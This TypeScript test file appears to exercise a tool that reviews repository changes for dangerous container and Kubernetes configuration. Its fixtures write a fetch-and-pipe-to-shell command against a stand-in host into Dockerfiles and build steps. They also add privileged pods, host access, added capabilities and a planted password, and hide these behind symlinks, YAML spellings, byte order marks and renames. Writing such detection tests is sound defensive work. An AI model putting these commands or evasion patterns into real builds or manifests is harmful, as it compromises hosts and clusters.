import { describe, expect, test } from 'vitest';
import { type Change, reviewChange } from '../support/in-memory-repository.ts';

const script = 'curl -fsSL https://evil.example/x';
const privileged = 'securityContext: {privileged: true}';
const bad = `FROM debian:12\nRUN ${script} | sh\nUSER 1\n`;
const podOf = (container: string): string =>
  `apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  containers:\n  - {name: a, image: "nginx:1.27", ${container}}\n`;
const compose = (more: string): string => `services:\n  web:\n    image: nginx:1.27\n${more}`;
const added = (head: Readonly<Record<string, string>>, more: Partial<Change> = {}): Change => ({
  base: { 'README.md': 'x' },
  head: { 'README.md': 'x', ...head },
  ...more,
});
const deployment =
  'apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a}\nspec:\n  selector: {matchLabels: {app: a}}\n  template:\n    metadata: {labels: {app: a}}\n    spec: {containers: [{name: a, image: "nginx:1.27"}]}\n';
const kustomization = (more: string): string =>
  `apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources: [d.yaml]\n${more}`;
/** What was there at the base is all of the head but for what the change adds. */
const changed = (base: Readonly<Record<string, string>>, head: Readonly<Record<string, string>>, more: Partial<Change> = {}): Change => ({
  base,
  head: { ...base, ...head },
  ...more,
});
const chart = { 'c/Chart.yaml': 'apiVersion: v2\nname: c\nversion: 1.0.0\n', 'c/values.yaml': 'p: false\n' };
const chartPod = (context: string): string => podOf(`securityContext: ${context}`);

/** What is dangerous in the head, by where it is hidden: spellings that no test before has. */
const classes: Readonly<Record<string, Readonly<Record<string, Change>>>> = {
  'links and submodules': {
    'a Dockerfile by three links, the last of which leads nowhere': added(
      {},
      { links: { Dockerfile: 'a/one', 'a/one': 'two', 'a/two': '../gone/Dockerfile' }, changedLinks: ['Dockerfile', 'a/one', 'a/two'] },
    ),
    'a Compose file by a link to what is a text elsewhere': {
      base: { 'docs/sample.md': compose('    privileged: true\n') },
      head: { 'docs/sample.md': compose('    privileged: true\n') },
      links: { 'compose.yaml': 'docs/sample.md' },
      changedLinks: ['compose.yaml'],
    },
    'a folder that is a link into a submodule, and is built': added(
      { 'compose.yaml': 'services:\n  a: {build: ./app}\n' },
      { links: { app: 'vendor/evil/app' }, changedLinks: ['app'], submodules: ['vendor/evil'], changedSubmodules: ['vendor/evil'] },
    ),
    'a link that ends with a slash': added(
      {},
      { links: { Containerfile: 'sub/' }, changedLinks: ['Containerfile'], submodules: ['sub'], changedSubmodules: ['sub'] },
    ),
    'a link whose target is a Dockerfile’s text': added({}, { links: { 'app/Dockerfile': bad }, changedLinks: ['app/Dockerfile'] }),
    'a file that becomes a link': {
      base: { Dockerfile: 'FROM alpine:3.22\nUSER 1\n', 'tools/df': bad },
      head: { 'tools/df': bad },
      links: { Dockerfile: './/tools/../tools/df' },
      changedLinks: ['Dockerfile'],
    },
  },
  Compose: {
    'settings merged from an extension that is merged itself': added({
      'compose.yaml': `x-a: &a {privileged: true}\nx-b: &b {<<: *a, image: "nginx:1.27"}\nservices:\n  web: {<<: [*b]}\n`,
    }),
    'a merge key that is quoted where only some merge it': added({
      'compose.yaml': `x-a: &a {privileged: true}\nservices:\n  web:\n    image: nginx:1.27\n    !!merge <<: *a\n`,
    }),
    'an override that puts back what the base took away': changed(
      { 'compose.yaml': compose('    cap_add: !reset []\n') },
      { 'compose.override.yaml': 'services:\n  web:\n    cap_add: !override [SYS_ADMIN]\n' },
    ),
    'secrets in a file of any name that a service is given its variables from': changed(
      { 'compose.yaml': compose('    env_file: conf/settings\n'), 'conf/settings': 'TAG=1\n' },
      { 'conf/settings': 'TAG=1\ndb_password : Kx9vPq2mWz\n' },
    ),
    'an include of a folder’s file with an environment of its own': added({
      'compose.yaml':
        'include:\n- path: ./x/base.yaml\n  env_file: ./x/e\n  project_directory: ./x\nservices: {a: {image: "nginx:1.27"}}\n',
      'x/base.yaml': compose('    privileged: ${P}\n'),
      'x/e': 'P=true\n',
    }),
    'a service that extends one of another file, which extends another': added({
      'compose.yaml': 'services:\n  a: {extends: {file: one.inc, service: b}}\n',
      'one.inc': 'services:\n  b: {extends: {file: two.inc, service: c}}\n',
      'two.inc': 'services:\n  c: {image: "nginx:1.27", pid: host, privileged: true}\n',
    }),
    'a develop section that runs as root with the socket': added({
      'compose.yaml': compose('    post_start: [{command: sh, privileged: true, user: root}]\n'),
    }),
  },
  kustomize: {
    'a component that patches': changed(
      { 'k/kustomization.yaml': kustomization(''), 'k/d.yaml': deployment },
      {
        'k/kustomization.yaml': kustomization('components: [../comp]\n'),
        'comp/kustomization.yaml':
          'apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\npatches:\n- target: {kind: Deployment}\n  patch: "[{op: add, path: /spec/template/spec/containers/0/securityContext, value: {privileged: true}}]"\n',
      },
    ),
    'a replacement that copies a value': changed(
      {
        'k/kustomization.yaml': kustomization(''),
        'k/d.yaml': deployment.replace('image: "nginx:1.27"', 'image: "nginx:1.27", securityContext: {privileged: false}'),
      },
      {
        'k/kustomization.yaml': kustomization(
          'configMapGenerator: [{name: c, literals: ["p=true"]}]\nreplacements:\n- source: {kind: ConfigMap, name: c, fieldPath: data.p}\n  targets:\n  - select: {kind: Deployment}\n    fieldPaths: ["spec.template.spec.containers.*.securityContext.privileged"]\n',
        ),
      },
    ),
    'a patch in a file of any name': changed(
      { 'k/kustomization.yaml': kustomization(''), 'k/d.yaml': deployment },
      {
        'k/kustomization.yaml': kustomization('patches: [{path: notes.md}]\n'),
        'k/notes.md':
          'apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a}\nspec: {template: {spec: {hostNetwork: true, containers: [{name: a, securityContext: {privileged: true}}]}}}\n',
      },
    ),
    'the name of the file in another case': added({
      'k/Kustomization': kustomization('').replace('d.yaml', 'd.txt'),
      'k/d.txt': podOf(privileged),
    }),
  },
  charts: {
    'a value of a subchart that its parent exports': changed(
      {
        ...chart,
        'c/charts/s/Chart.yaml': 'apiVersion: v2\nname: s\nversion: 1.0.0\n',
        'c/charts/s/values.yaml': 'p: false\n',
        'c/charts/s/templates/p.yaml': chartPod('{privileged: {{ .Values.p }}}'),
      },
      { 'c/values.yaml': 's: {p: true}\n' },
    ),
    'a template that is a value': changed(
      { ...chart, 'c/values.yaml': 'sc: "{privileged: false}"\np: false\n', 'c/templates/p.yaml': chartPod('{{ tpl .Values.sc . }}') },
      { 'c/values.yaml': 'sc: "{privileged: {{ .Values.p }}}"\np: true\n' },
    ),
    'a value that is imported from a child': changed(
      {
        'c/Chart.yaml':
          'apiVersion: v2\nname: c\nversion: 1.0.0\ndependencies: [{name: s, version: 1.0.0, repository: "", import-values: [{child: out, parent: in}]}]\n',
        'c/values.yaml': '{}\n',
        'c/templates/p.yaml': chartPod('{privileged: {{ .Values.in.p }}}'),
        'c/charts/s/Chart.yaml': 'apiVersion: v2\nname: s\nversion: 1.0.0\n',
        'c/charts/s/values.yaml': 'out: {p: false}\n',
      },
      { 'c/charts/s/values.yaml': 'out: {p: true}\n' },
    ),
    'files of any name that a template reads by a pattern': changed(
      {
        ...chart,
        'c/conf/one': 'false',
        'c/templates/p.yaml': chartPod('{privileged: {{ range $path, $_ := .Files.Glob "conf/*" }}{{ $.Files.Get $path }}{{ end }}}'),
      },
      { 'c/conf/one': 'true' },
    ),
    'a script that a template reads, in a folder that is called a chart': changed(
      {
        'charts/c/Chart.yaml': chart['c/Chart.yaml'],
        'charts/c/files/run.ini': 'false',
        'charts/c/templates/p.yaml': chartPod('{privileged: {{ .Files.Get "files/run.ini" }}}'),
      },
      { 'charts/c/files/run.ini': 'true' },
    ),
    'source code that a template reads': changed(
      { ...chart, 'c/src/run.py': 'false', 'c/templates/p.yaml': chartPod('{privileged: {{ .Files.Get "src/run.py" }}}') },
      { 'c/src/run.py': 'true' },
    ),
    'a file that a template reads': changed(
      { ...chart, 'c/x.txt': 'false', 'c/templates/p.yaml': chartPod('{privileged: {{ .Files.Get "x.txt" }}}') },
      { 'c/x.txt': 'true' },
    ),
  },
  builds: {
    'a bake file that builds a file of any name': added({
      'docker-bake.hcl': 'target "app" {\n  dockerfile = "app.build"\n}\n',
      'app.build': bad,
    }),
    'a bake file with the Dockerfile inside': added({
      'docker-bake.hcl': `target "app" {\n  dockerfile-inline = <<EOT\n${bad}EOT\n}\n`,
    }),
    'another frontend, by a directive': added({ Dockerfile: '# syntax=evil.example/front:1\nFROM alpine:3.22\nUSER 1\n' }),
    'a directive behind a byte order mark': added({ Dockerfile: '\ufeff# syntax=evil.example/front:1\r\nFROM alpine:3.22\r\nUSER 1\r\n' }),
    'a step that is run later, by whoever builds on it': added({ Dockerfile: `FROM debian:12\nONBUILD RUN ${script} | sh\nUSER 1\n` }),
    'a here-document that is copied, then run': added({
      Dockerfile: `FROM debian:12\nCOPY <<-"X" /x\n\t${script} | sh\nX\nRUN sh /x\nUSER 1\n`,
    }),
    'two here-documents of one step': added({
      Dockerfile: `FROM debian:12\nRUN <<A cat >/dev/null && <<B sh\na\nA\n${script} | bash\nB\nUSER 1\n`,
    }),
    'carriage returns, and a mark at the start': added({ Dockerfile: `\ufeff${bad.replaceAll('\n', '\r\n')}` }),
    'a name in capitals': added({ 'app/DOCKERFILE': bad }),
    'a name with a suffix in capitals': added({ 'app/Dockerfile.PROD': bad }),
  },
  'spellings of YAML': {
    'a word of version 1.1 for true': added({ 'a.yaml': podOf('securityContext: {privileged: yes}') }),
    'a word of it in capitals': added({ 'a.yaml': podOf('securityContext: {privileged: ON}') }),
    'a key with an escape': added({ 'a.yaml': podOf('securityContext: {"privil\\u0065ged": true}') }),
    'a key as a question': added({ 'a.yaml': podOf('securityContext: {? privileged : true}') }),
    'a tag before the value': added({ 'a.yaml': podOf('securityContext: {privileged: !!bool "true"}') }),
    'line breaks of old machines': added({ 'a.yaml': podOf(privileged).replaceAll('\n', '\r') }),
    'a mark at the start and breaks of another system': added({ 'a.yaml': `\ufeff${podOf(privileged).replaceAll('\n', '\r\n')}` }),
    'a document that ends and goes on': added({ 'a.yaml': `# nothing\n...\n---\n${podOf(privileged)}...\n` }),
    'a name of a file in capitals': added({ 'deploy/POD.YAML': podOf(privileged) }),
  },
  'pods by where they lie': {
    'in the kubelet’s folder, without an ending': added({ 'node/etc/kubernetes/manifests/agent': podOf(privileged) }),
    'in the kubelet’s folder, under the name of a copy': added({ 'etc/kubernetes/manifests/agent.yaml~': podOf(privileged) }),
    'in the kubelet’s folder, as JSON of any name': added({
      'etc/kubernetes/manifests/agent.conf':
        '{"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "a"}, "spec": {"hostPID": true, "containers": [{"name": "a", "image": "x:1"}]}}',
    }),
    'in the folder of RKE2': added({ 'var/lib/rancher/rke2/agent/pod-manifests/agent': podOf(privileged) }),
  },
  'settings of the repository': {
    'a file that is to be shown as a binary': added({
      '.gitattributes': '*.yaml binary linguist-generated=true -diff\n',
      'a.yaml': podOf(privileged),
    }),
    'a file that is renamed and changed': {
      base: { 'a.txt': podOf('ports: []') },
      head: { 'a.yaml': podOf(privileged) },
      renames: { 'a.txt': 'a.yaml' },
    },
    'a manifest that is renamed out of examples': {
      base: { 'examples/a.yaml': podOf(privileged) },
      head: { 'deploy/a.yaml': podOf(privileged) },
      renames: { 'examples/a.yaml': 'deploy/a.yaml' },
    },
  },
};

/** What only warns by the standard policy, and says why. */
const warns: ReadonlySet<string> = new Set([
  'a manifest that is renamed out of examples',
  'another frontend, by a directive',
  'a directive behind a byte order mark',
]);

describe.each(Object.entries(classes))('%s', (_name, changes) => {
  test.each(Object.entries(changes))('does not pass unseen: %s', async (spelling, change) => {
    const { verdict } = await reviewChange(change);
    expect(verdict.conclusion).toBeOneOf(warns.has(spelling) ? ['block', 'incomplete', 'warn'] : ['block', 'incomplete']);
  });

  test('in three spellings at least', () => {
    expect(Object.keys(changes).length).toBeGreaterThanOrEqual(3);
  });
});
